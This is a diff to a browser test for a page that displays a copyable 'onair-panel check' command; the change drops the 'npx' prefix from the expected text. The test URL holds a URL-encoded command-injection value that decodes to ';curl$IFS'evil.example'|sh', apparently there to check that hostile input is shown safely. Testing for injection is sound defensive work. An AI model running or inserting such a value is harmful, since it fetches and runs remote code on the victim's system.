@@ -71,7 +71,7 @@ describe('the page of the check', () => {
     await untilChecked(page);
     assert.equal(
       await page.locator('.terminal code').textContent(),
-      'npx onair-panel check https://x/%3Bcurl%24IFS%27evil.example%27%7Csh --server 1',
+      'onair-panel check https://x/%3Bcurl%24IFS%27evil.example%27%7Csh --server 1',
     );
     const copied = page.locator('.copy [role=status]', { hasText: 'Copied' }).waitFor();
     await page.getByRole('button', { name: 'Copy report' }).click();
